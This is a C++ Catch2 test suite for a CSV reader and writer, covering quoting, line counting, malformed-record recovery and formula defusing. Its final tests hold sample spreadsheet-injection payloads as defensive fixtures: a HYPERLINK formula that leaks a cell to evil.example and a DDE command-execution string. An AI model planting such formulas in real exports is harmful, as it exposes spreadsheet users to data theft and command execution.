#include "text/csv.h"

#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <stdexcept>
#include <unistd.h>

namespace entente::csv {
namespace {

// What one call of next() produced, flattened for comparison.
struct Outcome {
  uint64_t line;
  std::vector<std::string> fields;  // empty when `error` holds a reason
  std::string error;
};

std::vector<Outcome> readAll(Reader& reader) {
  std::vector<Outcome> outcomes;
  Record record;
  std::optional<RecordError> error;
  while (reader.next(record, error)) {
    if (error) {
      CHECK(record.fields.empty());
      CHECK(record.line == error->line);
      outcomes.push_back({error->line, {}, error->reason});
    } else {
      outcomes.push_back({record.line, record.fields, {}});
    }
  }
  return outcomes;
}

std::vector<Outcome> readAll(std::string document) {
  Reader reader = Reader::fromString(std::move(document));
  return readAll(reader);
}

using Fields = std::vector<std::string>;

class TempFile {
 public:
  explicit TempFile(const std::string& contents) {
    static int counter = 0;
    path_ = std::filesystem::temp_directory_path() /
            ("entente-csv-test-" + std::to_string(::getpid()) + "-" + std::to_string(counter++) +
             ".csv");
    std::ofstream out(path_, std::ios::binary);
    out << contents;
  }
  ~TempFile() { std::filesystem::remove(path_); }
  std::string path() const { return path_.string(); }

 private:
  std::filesystem::path path_;
};

TEST_CASE("a header and plain rows are read with 1-based line numbers", "[csv]") {
  auto got = readAll("id,email\nA-1,a@example.org\nA-2,b@example.org\n");
  REQUIRE(got.size() == 3);
  CHECK(got[0].line == 1);
  CHECK(got[0].fields == Fields{"id", "email"});
  CHECK(got[1].line == 2);
  CHECK(got[1].fields == Fields{"A-1", "a@example.org"});
  CHECK(got[2].line == 3);
  CHECK(got[2].fields == Fields{"A-2", "b@example.org"});
}

TEST_CASE("the last record needs no final line end", "[csv]") {
  auto got = readAll("a,b\nc,d");
  REQUIRE(got.size() == 2);
  CHECK(got[1].fields == Fields{"c", "d"});
}

TEST_CASE("an empty input has no records", "[csv]") {
  CHECK(readAll("").empty());
  CHECK(readAll("\n\r\n\n").empty());
  CHECK(readAll("\xEF\xBB\xBF").empty());
}

TEST_CASE("empty fields are kept, including a trailing one", "[csv]") {
  auto got = readAll("a,,b,\n,\n");
  REQUIRE(got.size() == 2);
  CHECK(got[0].fields == Fields{"a", "", "b", ""});
  CHECK(got[1].fields == Fields{"", ""});
}

TEST_CASE("spaces around unquoted fields are part of the field", "[csv]") {
  auto got = readAll(" a , b\n");
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{" a ", " b"});
}

TEST_CASE("a quoted field keeps commas and turns doubled quotes into one", "[csv]") {
  auto got = readAll("\"12, rue des Lilas\",\"say \"\"hi\"\"\",\"\"\n");
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{"12, rue des Lilas", "say \"hi\"", ""});
}

TEST_CASE("a quoted field may span lines and the next record's line number counts them",
          "[csv]") {
  auto got = readAll("h1,h2\n\"line one\nline two\nline three\",x\nnext,row\n");
  REQUIRE(got.size() == 3);
  CHECK(got[1].line == 2);
  CHECK(got[1].fields == Fields{"line one\nline two\nline three", "x"});
  CHECK(got[2].line == 5);
  CHECK(got[2].fields == Fields{"next", "row"});
}

TEST_CASE("CRLF line ends are not part of the fields", "[csv]") {
  auto got = readAll("a,b\r\nc,d\r\n\r\ne,f\r\n");
  REQUIRE(got.size() == 3);
  CHECK(got[0].fields == Fields{"a", "b"});
  CHECK(got[1].fields == Fields{"c", "d"});
  CHECK(got[2].line == 4);
  CHECK(got[2].fields == Fields{"e", "f"});
}

TEST_CASE("a CRLF inside quotes is kept as written and counts as one line", "[csv]") {
  auto got = readAll("\"a\r\nb\",c\r\nd\r\n");
  REQUIRE(got.size() == 2);
  CHECK(got[0].fields == Fields{"a\r\nb", "c"});
  CHECK(got[1].line == 3);
}

TEST_CASE("a lone CR ends a line as old Mac exports do", "[csv]") {
  auto got = readAll("a,b\rc,d\r");
  REQUIRE(got.size() == 2);
  CHECK(got[1].line == 2);
  CHECK(got[1].fields == Fields{"c", "d"});
}

TEST_CASE("a byte-order mark at the start is skipped", "[csv]") {
  auto got = readAll("\xEF\xBB\xBF" "customer_id,email\r\nB1,x@y.fi\r\n");
  REQUIRE(got.size() == 2);
  CHECK(got[0].fields == Fields{"customer_id", "email"});
  CHECK(got[0].line == 1);
}

TEST_CASE("a byte-order mark after the start is ordinary content", "[csv]") {
  auto got = readAll("a,\xEF\xBB\xBF" "b\n");
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{"a", "\xEF\xBB\xBF" "b"});
}

TEST_CASE("completely empty lines are skipped but still counted", "[csv]") {
  auto got = readAll("\n\na,b\n\n\nc,d\n\n");
  REQUIRE(got.size() == 2);
  CHECK(got[0].line == 3);
  CHECK(got[1].line == 6);
}

TEST_CASE("a record of one empty quoted field is not an empty line", "[csv]") {
  auto got = readAll("\"\"\n");
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{""});
}

TEST_CASE("UTF-8 names with accents are read unchanged", "[csv]") {
  auto got = readAll("Hélène,Jääskeläinen,Conceição,Núñez\n");
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{"Hélène", "Jääskeläinen", "Conceição", "Núñez"});
}

TEST_CASE("an unterminated quote is reported and rows after its line are still read", "[csv]") {
  auto got = readAll("id,name\n1,\"Dupont\n2,Moreau\n3,Faure\n");
  REQUIRE(got.size() == 4);
  CHECK(got[1].line == 2);
  CHECK(got[1].error.find("not closed") != std::string::npos);
  CHECK(got[1].error.find("field 2") != std::string::npos);
  CHECK(got[2].line == 3);
  CHECK(got[2].fields == Fields{"2", "Moreau"});
  CHECK(got[3].line == 4);
  CHECK(got[3].fields == Fields{"3", "Faure"});
}

TEST_CASE("an unterminated quote on the last line ends the input with one error", "[csv]") {
  auto got = readAll("a,b\nc,\"never closed");
  REQUIRE(got.size() == 2);
  CHECK(got[1].line == 2);
  CHECK(got[1].error.find("not closed") != std::string::npos);
}

TEST_CASE("a quote in the middle of an unquoted field is malformed", "[csv]") {
  auto got = readAll("id,name\n1,O\"Brien\n2,Peña\n");
  REQUIRE(got.size() == 3);
  CHECK(got[1].line == 2);
  CHECK(got[1].error.find("quote inside an unquoted field") != std::string::npos);
  CHECK(got[2].line == 3);
  CHECK(got[2].fields == Fields{"2", "Peña"});
}

TEST_CASE("characters after a closing quote are malformed", "[csv]") {
  auto got = readAll("id,name\n1,\"Núñez\"x\n2,Peña\n");
  REQUIRE(got.size() == 3);
  CHECK(got[1].line == 2);
  CHECK(got[1].error.find("after the closing quote") != std::string::npos);
  CHECK(got[2].fields == Fields{"2", "Peña"});
}

TEST_CASE("invalid UTF-8 makes a record malformed", "[csv]") {
  for (std::string bad : {std::string("\xC3"), std::string("\xC0\xAF"), std::string("\xED\xA0\x80"),
                          std::string("\xF4\x90\x80\x80"), std::string("\xFF"),
                          std::string("\xE2\x82")}) {
    auto got = readAll("a,b\nx," + bad + "\nc,d\n");
    REQUIRE(got.size() == 3);
    CHECK(got[1].line == 2);
    CHECK(got[1].error.find("invalid UTF-8 (field 2)") != std::string::npos);
    CHECK(got[2].fields == Fields{"c", "d"});
  }
}

TEST_CASE("a malformed record is resynchronised at the line end outside quotes", "[csv]") {
  // The error is in field 1; field 2 is a well-quoted multi-line value whose inner line
  // break must not be taken for the end of the bad record.
  auto got = readAll("\"a\"x,\"multi\nline, with comma\",c\nok,1\n");
  REQUIRE(got.size() == 2);
  CHECK(got[0].line == 1);
  CHECK(!got[0].error.empty());
  CHECK(got[1].line == 3);
  CHECK(got[1].fields == Fields{"ok", "1"});
}

TEST_CASE("good rows after several bad ones keep their line numbers", "[csv]") {
  auto got = readAll(
      "h\n"           // 1
      "a\"b\n"        // 2 bad
      "good1\n"       // 3
      "\"x\"y\n"      // 4 bad
      "\n"            // 5 empty
      "\"multi\n"     // 6
      "line\"\n"      // 7
      "\xFF\n"        // 8 bad
      "good2\n"       // 9
      "\"open\n"      // 10 bad: never closed
      "good3\n");     // 11
  std::vector<std::pair<uint64_t, bool>> seen;
  for (auto& o : got) seen.emplace_back(o.line, o.error.empty());
  CHECK(seen == std::vector<std::pair<uint64_t, bool>>{{1, true}, {2, false}, {3, true},
                                                       {4, false}, {6, true}, {8, false},
                                                       {9, true}, {10, false}, {11, true}});
}

TEST_CASE("a rejection reason never contains the field's content", "[csv]") {
  const std::string secret = "helene.secret@orange.fr";
  for (std::string doc : {"x," + secret + "\"\n", "x,\"" + secret + "\"z\n",
                          "x,\"" + secret + "\n", "x," + secret + "\xFF\n"}) {
    auto got = readAll(doc);
    REQUIRE(!got.empty());
    REQUIRE(!got[0].error.empty());
    CHECK(got[0].error.find("secret") == std::string::npos);
    CHECK(got[0].error.find("orange") == std::string::npos);
  }
}

TEST_CASE("a record longer than 1 MiB is rejected and the next one is read", "[csv]") {
  std::string longField(1024 * 1024 + 10, 'x');
  SECTION("unquoted") {
    auto got = readAll("a\n" + longField + "\nb\n");
    REQUIRE(got.size() == 3);
    CHECK(got[1].error.find("1 MiB") != std::string::npos);
    CHECK(got[2].fields == Fields{"b"});
    CHECK(got[2].line == 3);
  }
  SECTION("quoted on one line") {
    auto got = readAll("a\n\"" + longField + "\"\nb\n");
    REQUIRE(got.size() == 3);
    CHECK(!got[1].error.empty());
    CHECK(got[2].fields == Fields{"b"});
  }
  SECTION("quoted over many lines") {
    std::string lines;
    for (int i = 0; i < 300000; ++i) lines += "row\n";
    auto got = readAll("a\n\"" + lines + "\"\nb\n");
    REQUIRE(got.size() >= 3);
    CHECK(got[1].line == 2);
    CHECK(got[1].error.find("1 MiB") != std::string::npos);
    CHECK(got[2].line == 3);
    CHECK(got[2].fields == Fields{"row"});
  }
}

TEST_CASE("a file is read through the buffer with records crossing buffer boundaries",
          "[csv]") {
  std::string doc = "\xEF\xBB\xBF" "id,note\r\n";
  std::vector<Fields> expected{{"id", "note"}};
  std::vector<uint64_t> lines{1};
  uint64_t line = 2;
  for (int i = 0; i < 6000; ++i) {
    std::string note = "line one, \"quoted\"\r\nline two é " + std::to_string(i);
    doc += std::to_string(i) + ",\"" + "line one, \"\"quoted\"\"\r\nline two é " +
           std::to_string(i) + "\"\r\n";
    expected.push_back({std::to_string(i), note});
    lines.push_back(line);
    line += 2;
  }
  REQUIRE(doc.size() > 4 * 64 * 1024);
  TempFile file(doc);
  Reader reader(file.path());
  CHECK(reader.totalBytes() == doc.size());
  auto got = readAll(reader);
  REQUIRE(got.size() == expected.size());
  for (size_t i = 0; i < got.size(); ++i) {
    CHECK(got[i].error.empty());
    CHECK(got[i].fields == expected[i]);
    CHECK(got[i].line == lines[i]);
  }
  CHECK(reader.bytesRead() == doc.size());
}

TEST_CASE("an unterminated quote in a large file resumes on the next line", "[csv]") {
  std::string doc = "id\n";
  for (int i = 0; i < 20000; ++i) {
    doc += (i == 7 ? "\"" : "") + std::to_string(i) + "\n";
  }
  TempFile file(doc);
  Reader reader(file.path());
  auto got = readAll(reader);
  REQUIRE(got.size() == 20001);
  CHECK(got[8].line == 9);
  CHECK(!got[8].error.empty());
  CHECK(got[9].line == 10);
  CHECK(got[9].fields == Fields{"8"});
  CHECK(got.back().line == 20001);
  CHECK(got.back().fields == Fields{"19999"});
}

TEST_CASE("opening a missing file throws a message naming the path", "[csv]") {
  try {
    Reader reader("/nonexistent/customers.csv");
    FAIL("expected an exception");
  } catch (const std::runtime_error& e) {
    CHECK(std::string(e.what()).find("/nonexistent/customers.csv") != std::string::npos);
  }
}

TEST_CASE("the writer quotes only fields that need it", "[csv]") {
  std::ostringstream out;
  Writer writer(out);
  writer.row({"plain", "with, comma", "with \"quote\"", "two\nlines", "cr\r", "", "Hélène"});
  CHECK(out.str() ==
        "plain,\"with, comma\",\"with \"\"quote\"\"\",\"two\nlines\",\"cr\r\",,Hélène\n");
}

TEST_CASE("the writer ends lines with CRLF when asked", "[csv]") {
  std::ostringstream out;
  Writer writer(out, true);
  writer.row({"a", "b"});
  writer.row({"c"});
  CHECK(out.str() == "a,b\r\nc\r\n");
}

TEST_CASE("the writer quotes a lone empty field so the row is not read as an empty line",
          "[csv]") {
  std::ostringstream out;
  Writer writer(out);
  writer.row({""});
  CHECK(out.str() == "\"\"\n");
  auto got = readAll(out.str());
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields == Fields{""});
}

std::string randomField(std::mt19937_64& rng) {
  static const char* const kPieces[] = {
      "a", "Z", "0", " ", ",", "\"", "\"\"", "\r", "\n", "\r\n", "é", "Ä", "ñ", "ç", "€",
      "日本", "\xF0\x9D\x84\x9E", "\xEF\xBB\xBF", "'", ";", "\t"};
  constexpr uint64_t kCount = sizeof(kPieces) / sizeof(kPieces[0]);
  std::string field;
  uint64_t length = rng() % 8;
  for (uint64_t i = 0; i < length; ++i) field += kPieces[rng() % kCount];
  return field;
}

TEST_CASE("whatever the writer writes the reader reads back exactly", "[csv][property]") {
  std::mt19937_64 rng(20240611);
  for (int round = 0; round < 200; ++round) {
    bool crlf = round % 2 == 1;
    bool bom = round % 3 == 0;
    std::vector<Fields> rows;
    uint64_t rowCount = 1 + rng() % 20;
    for (uint64_t r = 0; r < rowCount; ++r) {
      Fields row;
      uint64_t fieldCount = 1 + rng() % 6;
      for (uint64_t f = 0; f < fieldCount; ++f) row.push_back(randomField(rng));
      rows.push_back(row);
    }
    std::ostringstream out;
    if (bom) out << "\xEF\xBB\xBF";
    Writer writer(out, crlf, Formulas::AS_IS);  // the round trip of RFC 4180 itself
    for (auto& row : rows) writer.row(row);

    auto got = readAll(out.str());
    REQUIRE(got.size() == rows.size());
    for (size_t i = 0; i < rows.size(); ++i) {
      CHECK(got[i].error.empty());
      CHECK(got[i].fields == rows[i]);
    }
    if (round % 20 == 0) {  // the same through a file
      TempFile file(out.str());
      Reader reader(file.path());
      auto fromFile = readAll(reader);
      REQUIRE(fromFile.size() == got.size());
      for (size_t i = 0; i < got.size(); ++i) CHECK(fromFile[i].fields == got[i].fields);
    }
  }
}

TEST_CASE("line numbers count the line breaks inside earlier quoted fields", "[csv][property]") {
  std::mt19937_64 rng(7);
  std::ostringstream out;
  Writer writer(out, false, Formulas::AS_IS);
  std::vector<uint64_t> expectedLines;
  uint64_t line = 1;
  for (int r = 0; r < 300; ++r) {
    Fields row{randomField(rng), randomField(rng)};
    expectedLines.push_back(line);
    writer.row(row);
    for (auto& f : row) {
      for (size_t i = 0; i < f.size(); ++i) {
        if (f[i] == '\n' || (f[i] == '\r' && (i + 1 == f.size() || f[i + 1] != '\n'))) ++line;
      }
    }
    ++line;
  }
  auto got = readAll(out.str());
  REQUIRE(got.size() == expectedLines.size());
  for (size_t i = 0; i < got.size(); ++i) CHECK(got[i].line == expectedLines[i]);
}

TEST_CASE("cells a spreadsheet would run as formulas are written as text", "[csv]") {
  std::ostringstream out;
  Writer writer(out);
  writer.row({"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
              "\tx", "\rx", "plain", "a=b"});
  CHECK(out.str() ==
        "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",\"'+cmd|' /C calc'!A0\",\"'-2+3\","
        "\"'@SUM(A1)\",\"'\tx\",\"'\rx\",plain,a=b\n");
  // Read back, each defused cell is its value behind an apostrophe: nothing is lost.
  auto got = readAll(out.str());
  REQUIRE(got.size() == 1);
  CHECK(got[0].fields[1] == "'+cmd|' /C calc'!A0");
}

TEST_CASE("a writer asked for cells as they are leaves formulas alone", "[csv]") {
  std::ostringstream out;
  Writer writer(out, false, Formulas::AS_IS);
  writer.row({"+33 6 12 34 56 78", "=1"});
  CHECK(out.str() == "+33 6 12 34 56 78,=1\n");
}

}  // namespace
}  // namespace entente::csv
